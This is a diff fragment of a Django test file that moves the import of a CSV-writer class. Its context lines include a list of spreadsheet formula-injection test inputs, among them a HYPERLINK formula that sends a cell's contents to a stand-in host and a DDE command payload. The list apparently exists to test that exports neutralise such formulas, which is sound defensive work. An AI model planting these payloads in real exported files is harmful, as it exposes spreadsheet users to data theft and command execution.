@@ -9,7 +9,7 @@ import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
-from tables.export_views import SafeCsvWriter
+from tables.standings.export_views import SafeCsvWriter
 from tests.factories import ClubFactory, RegistrationFactory, report, seat_round
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
